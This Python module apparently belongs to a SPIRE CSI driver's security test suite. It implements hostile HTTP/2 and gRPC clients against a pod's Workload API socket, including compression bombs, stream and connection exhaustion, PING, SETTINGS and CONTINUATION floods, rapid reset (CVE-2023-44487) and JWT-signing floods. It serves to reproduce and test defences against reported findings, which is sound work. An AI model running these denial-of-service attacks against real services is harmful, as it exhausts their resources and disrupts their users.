"""The attacks on a pod's Workload API socket, each a hostile client that a pod could run.

An attack is an object: :meth:`Attack.run` (blocking; run it in a worker thread) does the
harm and returns when the attack is over or the driver ended it; the attacker's
connections stay open until :meth:`Attack.close` (the attacker leaves), so a test can look
at the driver while they are held. :meth:`Attack.stop` asks a running flood to end early.
:meth:`Attack.outcome` says what the attacker saw. Sizes default to what a test needs to
show the harm; ``just hostile`` passes the sizes of the original findings.
"""

from __future__ import annotations

import contextlib
import functools
import socket
import threading
import time
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

from trio_spirecsi._proto.spiffe.workload import workload_pb2 as wl

from . import wire
from .wire import Closed, Connection, Seen

MIB = 1 << 20


@dataclass(frozen=True)
class Outcome:
    """What the attacker saw, over all its connections."""

    attack: str
    connections: int
    closed: int
    """connections the driver closed (EOF or reset seen by the attacker)"""
    goaways: tuple[int, ...]
    """error codes of the GOAWAY frames received"""
    resets: Mapping[int, int]
    """RST_STREAM error code -> streams"""
    statuses: Mapping[int, int]
    """gRPC status -> calls"""
    served: int
    """streams on which the driver sent a response message"""
    sent: int
    """bytes the attacker got onto the socket"""
    elapsed: float
    detail: str

    @property
    def ended_by_driver(self) -> bool:
        """The driver closed every connection, or sent GOAWAY on each."""
        return self.connections > 0 and max(self.closed, len(self.goaways)) >= self.connections

    def describe(self) -> str:
        parts = [f"{self.connections} connection(s), {self.closed} closed by the driver"]
        if self.goaways:
            names = sorted({wire.error_name(c) for c in self.goaways})
            parts.append(f"GOAWAY {', '.join(names)} x{len(self.goaways)}")
        if self.resets:
            parts.append(
                "RST_STREAM "
                + ", ".join(f"{wire.error_name(c)} x{n}" for c, n in sorted(self.resets.items()))
            )
        if self.statuses:
            parts.append(
                "grpc-status " + ", ".join(f"{c} x{n}" for c, n in sorted(self.statuses.items()))
            )
        if self.served:
            parts.append(f"{self.served} stream(s) served")
        parts.append(f"{self.sent / MIB:.1f} MiB sent in {self.elapsed:.1f} s")
        if self.detail:
            parts.append(self.detail)
        return "; ".join(parts)


class Attack:
    """Base: a set of raw connections to one socket and what they saw."""

    name = "attack"

    def __init__(self, socket_path: str | Path) -> None:
        self.path = str(socket_path)
        self.connections: list[Connection] = []
        self.detail = ""
        self.elapsed = 0.0
        self._stop = threading.Event()

    def __str__(self) -> str:
        return self.name

    def connect(self) -> Connection:
        conn = Connection.open(self.path)
        self.connections.append(conn)
        return conn

    def run(self) -> None:
        started = time.monotonic()
        try:
            self.attack()
        finally:
            self.elapsed = time.monotonic() - started

    def attack(self) -> None:
        raise NotImplementedError

    def stop(self) -> None:
        self._stop.set()

    @property
    def stopping(self) -> bool:
        return self._stop.is_set()

    def close(self) -> None:
        """The attacker leaves: every connection is closed."""
        self._stop.set()
        for conn in self.connections:
            conn.close()

    def poll_closed(self) -> int:
        """Connections the driver has closed by now (reads and drops what it sent)."""
        for conn in self.connections:
            if not conn.seen.closed:
                conn.receive(0)
        return sum(1 for c in self.connections if c.seen.closed)

    def outcome(self) -> Outcome:
        seens = [c.seen for c in self.connections]
        resets: dict[int, int] = {}
        statuses: dict[int, int] = {}
        for seen in seens:
            for code in seen.resets.values():
                resets[code] = resets.get(code, 0) + 1
            for code, count in seen.statuses().items():
                statuses[code] = statuses.get(code, 0) + count
        return Outcome(
            attack=self.name,
            connections=len(self.connections),
            closed=sum(1 for s in seens if s.closed),
            goaways=tuple(s.goaway.error_code for s in seens if s.goaway is not None),
            resets=resets,
            statuses=statuses,
            served=sum(1 for s in seens for sid in s.data_bytes if s.served(sid)),
            sent=sum(c.sent for c in self.connections),
            elapsed=self.elapsed,
            detail=self.detail,
        )


def _stream_over(seen: Seen, sid: int) -> bool:
    return sid in seen.ended or seen.goaway is not None or seen.closed


# Finding 1: a header the driver cannot decode ------------------------------------------------


class NonUtf8Header(Attack):
    """One request whose header bytes are not UTF-8 (no workload.spiffe.io header needed):
    in a custom header's value, in a header's name, or in ``:path``."""

    def __init__(self, socket_path: str | Path, where: str = "value", wait: float = 10.0) -> None:
        super().__init__(socket_path)
        if where not in ("value", "name", "path"):
            raise ValueError(f"where: value, name or path, not {where!r}")
        self.where = where
        self.wait = wait
        self.name = f"non-UTF-8 header {where}"

    def attack(self) -> None:
        conn = self.connect()
        conn.handshake()
        path = wire.FETCH_X509_SVID.encode()
        extra: list[tuple[bytes, bytes]] = []
        if self.where == "value":
            extra.append((b"x-hostile", b"\xff\xfe\xc3\x28"))
        elif self.where == "name":
            extra.append((b"x-\xff\xfe", b"1"))
        else:
            path = b"/SpiffeWorkloadAPI/\xff\xfe"
        fields = wire.grpc_request_fields(path, workload_header=False, extra=extra)
        with contextlib.suppress(Closed):
            conn.send(wire.headers(1, wire.header_block(fields)))
            conn.send(wire.data(1, wire.grpc_message(b""), end_stream=True))
        conn.receive_until(lambda s: _stream_over(s, 1), self.wait)


# Finding 2: a compressed message that inflates beyond any limit ------------------------------


@functools.cache
def _bomb(inflated: int, gzip: bool) -> bytes:
    return wire.deflate_bomb(inflated, gzip=gzip)


class CompressionBomb(Attack):
    """FetchJWTSVID whose one message is compressed (``grpc-encoding``) and inflates to
    ``inflated`` bytes; sent within the driver's flow-control windows, as a client must."""

    def __init__(
        self,
        socket_path: str | Path,
        encoding: str = "deflate",
        inflated: int = 400 * MIB,
        wait: float = 30.0,
    ) -> None:
        super().__init__(socket_path)
        self.encoding = encoding
        self.inflated = inflated
        self.wait = wait
        self.payload = _bomb(inflated, encoding == "gzip")
        self.name = (
            f"{encoding} bomb: {len(self.payload) / 1024:.0f} KiB inflating to "
            f"{inflated / MIB:.0f} MiB"
        )

    def attack(self) -> None:
        conn = self.connect()
        conn.handshake()
        conn.receive(0.2)  # the driver's SETTINGS: its windows and frame size
        extra = [(b"grpc-encoding", self.encoding.encode())]
        with contextlib.suppress(Closed):
            conn.send(wire.headers(1, wire.grpc_request(wire.FETCH_JWT_SVID, extra=extra)))
        message = wire.grpc_message(self.payload, compressed=True)
        sent = conn.send_flow_controlled(1, message, end_stream=True, timeout=self.wait)
        if sent < len(message):
            self.detail = f"the driver took {sent} of the {len(message)} compressed bytes"
        conn.receive_until(lambda s: _stream_over(s, 1), self.wait)


# Finding 3: no limits on the per-pod socket ------------------------------------------------


class ManyStreams(Attack):
    """One connection opening ``count`` FetchX509SVID streams (each long-lived: the driver
    keeps answering it until the client leaves) without waiting for anything."""

    def __init__(
        self,
        socket_path: str | Path,
        count: int = 2000,
        wait: float = 10.0,
        max_seconds: float = 60.0,
    ) -> None:
        super().__init__(socket_path)
        self.count = count
        self.opened = 0
        self.wait = wait
        self.max_seconds = max_seconds
        self.name = f"{count} concurrent streams on one connection"

    def attack(self) -> None:
        conn = self.connect()
        conn.handshake(window=wire.LARGEST_WINDOW - wire.DEFAULT_WINDOW)
        conn.receive(0.2)  # the driver's SETTINGS (its stream limit), then ignore them
        block = wire.grpc_request(wire.FETCH_X509_SVID)
        request = wire.grpc_message(b"")
        batch = bytearray()
        deadline = time.monotonic() + self.max_seconds
        for index in range(self.count):
            sid = 2 * index + 1
            batch += wire.headers(sid, block) + wire.data(sid, request, end_stream=True)
            if len(batch) > 64 * 1024 or index == self.count - 1:
                try:
                    conn.send(batch)
                except Closed:
                    break
                self.opened = index + 1
                batch.clear()
                conn.receive(0)
            if self.stopping or conn.seen.goaway is not None or time.monotonic() > deadline:
                break
        # Every stream is either answered, refused, or left waiting: give the driver time.
        last = -1
        deadline = time.monotonic() + self.wait
        while time.monotonic() < deadline and not conn.seen.closed:
            conn.receive(0.5)
            settled = len(conn.seen.ended | {sid for sid in conn.seen.data_bytes})
            if settled == last:
                break
            last = settled

    def concurrent(self) -> int:
        """Streams the driver is serving at the same time (served, not ended)."""
        seen = self.connections[0].seen if self.connections else Seen()
        return sum(1 for sid in seen.data_bytes if seen.served(sid) and sid not in seen.ended)

    def unanswered(self) -> int:
        """Streams sent that the driver neither served, ended nor refused."""
        seen = self.connections[0].seen if self.connections else Seen()
        if seen.goaway is not None or seen.closed:
            return 0
        sent = range(1, 2 * self.opened, 2)
        return sum(1 for sid in sent if sid not in seen.ended and not seen.served(sid))


class LargeRequests(Attack):
    """``connections`` x ``streams`` FetchX509SVID streams, each sending one request of
    ``size`` bytes (a valid request: one unknown field) and staying open, so that whatever
    the driver accepted stays held for the stream's life. Flow control is respected."""

    def __init__(
        self,
        socket_path: str | Path,
        connections: int = 4,
        streams: int = 16,
        size: int = 4 * MIB - 64,
        wait: float = 20.0,
    ) -> None:
        super().__init__(socket_path)
        self.count = connections
        self.streams = streams
        self.size = size
        self.wait = wait
        self.name = f"{connections} x {streams} streams holding {size / MIB:.0f} MiB requests"

    def attack(self) -> None:
        message = wire.grpc_message(wire.unknown_field(self.size))
        block = wire.grpc_request(wire.FETCH_X509_SVID)
        accepted = 0
        deadline = time.monotonic() + self.wait
        for _ in range(self.count):
            if self.stopping or time.monotonic() >= deadline:
                break
            conn = self.connect()
            conn.handshake(window=wire.LARGEST_WINDOW - wire.DEFAULT_WINDOW)
            conn.receive(0.2)
            for index in range(self.streams):
                sid = 2 * index + 1
                try:
                    conn.send(wire.headers(sid, block))
                except Closed:
                    break
                left = max(deadline - time.monotonic(), 0.5)
                accepted += conn.send_flow_controlled(sid, message, timeout=left)
                if conn.seen.closed or self.stopping:
                    break
        for conn in self.connections:
            conn.receive(0.5)
        self.detail = f"the driver took {accepted / MIB:.1f} MiB of request data"


class SilentConnections(Attack):
    """``count`` connections that never send a byte (not even the preface)."""

    def __init__(self, socket_path: str | Path, count: int = 2000) -> None:
        super().__init__(socket_path)
        self.count = count
        self.socks: list[socket.socket] = []
        self.name = f"{count} silent connections"

    def attack(self) -> None:
        for _ in range(self.count):
            if self.stopping:
                break
            try:
                self.socks.append(wire.connect_unix(self.path, timeout=5.0))
            except OSError as exc:
                self.detail = f"connect failed after {len(self.socks)}: {exc}"
                break

    def poll_closed(self) -> int:
        return sum(1 for s in self.socks if s.fileno() < 0 or wire.closed_by_peer(s))

    def close(self) -> None:
        super().close()
        for sock in self.socks:
            sock.close()

    def outcome(self) -> Outcome:
        closed = self.poll_closed()
        return Outcome(
            self.name, len(self.socks), closed, (), {}, {}, 0, 0, self.elapsed, self.detail
        )


class ManyConnections(Attack):
    """``count`` connections that each complete the HTTP/2 handshake, then idle."""

    def __init__(self, socket_path: str | Path, count: int = 64) -> None:
        super().__init__(socket_path)
        self.count = count
        self.name = f"{count} handshaken connections"

    def attack(self) -> None:
        for _ in range(self.count):
            if self.stopping:
                break
            try:
                conn = self.connect()
            except OSError as exc:
                self.detail = f"connect failed after {len(self.connections)}: {exc}"
                break
            with contextlib.suppress(Closed, TimeoutError):
                conn.handshake()
        for conn in self.connections:
            conn.receive(0.05)

    def open_count(self) -> int:
        return len(self.connections) - self.poll_closed()


class Flood(Attack):
    """Send one batch of frames again and again, never reading, until the driver closes
    the connection, ``max_bytes`` went out, ``max_seconds`` passed, or :meth:`stop`."""

    reads = False

    def __init__(
        self, socket_path: str | Path, max_bytes: int = 64 * MIB, max_seconds: float = 15.0
    ) -> None:
        super().__init__(socket_path)
        self.max_bytes = max_bytes
        self.max_seconds = max_seconds
        self.stalled = False
        """the driver stopped reading (a send blocked for a whole second)"""

    def opening(self, conn: Connection) -> bytes:
        return b""

    def batch(self, index: int) -> bytes:
        raise NotImplementedError

    def attack(self) -> None:
        conn = self.connect()
        conn.handshake(window=wire.LARGEST_WINDOW - wire.DEFAULT_WINDOW)
        conn.receive(0.2)  # the driver's SETTINGS, acknowledged as any client does
        deadline = time.monotonic() + self.max_seconds
        index = 0
        try:
            conn.send(self.opening(conn))
            while conn.sent < self.max_bytes and time.monotonic() < deadline:
                if self.stopping:
                    break
                try:
                    conn.send(self.batch(index), timeout=1.0)
                except TimeoutError:
                    self.stalled = True
                    continue
                index += 1
                if self.reads:
                    conn.receive(0)
                    if conn.seen.goaway is not None:
                        break
        except Closed:
            pass
        # What the driver sent before it closed (a GOAWAY's reason), within bounds.
        read_until = time.monotonic() + 3.0
        while time.monotonic() < read_until and conn.receive(0.5):
            if conn.seen.goaway is not None:
                break
        self.detail = "the driver stopped reading" if self.stalled else ""


class PingFlood(Flood):
    """PING frames, never reading the ACKs: each ACK the driver queues costs it memory."""

    name = "PING flood, never reading"
    _BATCH = wire.ping() * 4096

    def batch(self, index: int) -> bytes:
        return self._BATCH


class SettingsFlood(Flood):
    """SETTINGS frames (each must be acknowledged), never reading the ACKs."""

    name = "SETTINGS flood, never reading"
    _BATCH = b"".join(
        wire.settings({wire.SETTINGS_INITIAL_WINDOW_SIZE: 65535 + (i % 2)}) for i in range(2048)
    )

    def batch(self, index: int) -> bytes:
        return self._BATCH


class UnknownFrameFlood(Flood):
    """Small frames of a type nobody defines (a receiver must read and ignore each)."""

    name = "unknown-frame flood"
    _BATCH = wire.unknown(b"x" * 8) * 4096

    def batch(self, index: int) -> bytes:
        return self._BATCH


class HugeUnknownFrames(Flood):
    """Unknown-type frames of ``size`` bytes each (16 MiB - 1: the largest HTTP/2 frame),
    although the driver advertised no frame size above the 16 KiB default."""

    def __init__(
        self,
        socket_path: str | Path,
        size: int = wire.LARGEST_FRAME,
        count: int = 4,
        max_seconds: float = 20.0,
    ) -> None:
        super().__init__(socket_path, max_bytes=count * (size + 9), max_seconds=max_seconds)
        self.size = size
        self.frame = wire.unknown(b"\0" * size)
        self.name = f"{count} unknown frames of {size / MIB:.0f} MiB"

    def batch(self, index: int) -> bytes:
        return self.frame

    def attack(self) -> None:
        super().attack()
        conn = self.connections[0]
        # Still open? A PING tells whether the driver still talks on this connection.
        with contextlib.suppress(Closed, TimeoutError, OSError):
            conn.send(wire.ping(b"alive?"), timeout=5.0)
        conn.receive_until(lambda s: s.ping_acks > 0 or s.goaway is not None, 10.0)


class ContinuationFlood(Flood):
    """HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB (valid HPACK
    literals), never ending the header block; with ``end_at`` the block does end there
    (one huge header list instead of an endless one)."""

    reads = True

    def __init__(
        self,
        socket_path: str | Path,
        max_bytes: int = 16 * MIB,
        max_seconds: float = 15.0,
        end_at: int = 0,
    ) -> None:
        super().__init__(socket_path, max_bytes=max_bytes, max_seconds=max_seconds)
        self.end_at = end_at
        self.frame = b""
        self._block = 0
        if end_at:
            self.name = f"{end_at / MIB:g} MiB header block in CONTINUATION frames"
        else:
            self.name = "endless HEADERS + CONTINUATION chain"

    def opening(self, conn: Connection) -> bytes:
        # Frames as large as the driver allows: a chain of them is what it must bound.
        size = min(conn.max_frame(), self.end_at or wire.LARGEST_FRAME)
        self.frame = wire.continuation(1, wire.literal(b"x-pad", b"a" * (size - 16)))
        self._block = 0
        return wire.headers(1, wire.grpc_request(wire.FETCH_X509_SVID), end_headers=False)

    def batch(self, index: int) -> bytes:
        self._block += len(self.frame) - 9
        if self.end_at and self._block >= self.end_at:
            self.max_bytes = 0  # the block ends here, then the (complete) request message
            last = wire.continuation(1, wire.literal(b"x-pad", b"a" * 16), end_headers=True)
            return self.frame + last + wire.data(1, wire.grpc_message(b""), end_stream=True)
        return self.frame


class RapidReset(Flood):
    """A new stream (a complete FetchJWTSVID request) and its RST_STREAM, again and again
    (CVE-2023-44487): the server starts work the client cancels at once."""

    reads = True

    def __init__(
        self, socket_path: str | Path, count: int = 20000, max_seconds: float = 15.0
    ) -> None:
        super().__init__(socket_path, max_bytes=1 << 40, max_seconds=max_seconds)
        self.count = count
        self.block = wire.grpc_request(wire.FETCH_JWT_SVID)
        self.name = f"rapid reset, {count} streams"

    def batch(self, index: int) -> bytes:
        out = bytearray()
        for n in range(100):
            sid = 2 * (index * 100 + n) + 1
            if sid >= 2 * self.count:
                self.max_bytes = 0
                break
            out += wire.headers(sid, self.block)
            out += wire.rst_stream(sid, wire.CANCEL)
        return bytes(out)


class JwtFlood(Attack):
    """``calls`` FetchJWTSVID calls, ``concurrency`` at a time on one connection, each a
    round trip to the SPIRE agent (which signs a token): a pod making the driver hammer
    the agent for it."""

    def __init__(
        self, socket_path: str | Path, calls: int = 400, concurrency: int = 8, wait: float = 30.0
    ) -> None:
        super().__init__(socket_path)
        self.calls = calls
        self.concurrency = concurrency
        self.wait = wait
        self.name = f"{calls} FetchJWTSVID calls"
        self.messages: dict[int, str] = {}

    def attack(self) -> None:
        conn = self.connect()
        conn.handshake(window=wire.LARGEST_WINDOW - wire.DEFAULT_WINDOW)
        block = wire.grpc_request(wire.FETCH_JWT_SVID)
        request = wire.grpc_message(wl.JWTSVIDRequest(audience=["hostile"]).SerializeToString())
        started = 0
        open_streams: set[int] = set()
        deadline = time.monotonic() + self.wait
        while (started < self.calls or open_streams) and time.monotonic() < deadline:
            while started < self.calls and len(open_streams) < self.concurrency:
                sid = 2 * started + 1
                try:
                    conn.send(wire.headers(sid, block) + wire.data(sid, request, end_stream=True))
                except Closed:
                    return
                open_streams.add(sid)
                started += 1
            if not conn.receive(0.2) or self.stopping:
                return
            open_streams -= conn.seen.ended
        for sid in conn.seen.header_blocks:
            status = conn.seen.grpc_status(sid)
            if status is not None and status[0] != wire.GRPC_OK:
                self.messages[status[0]] = status[1]
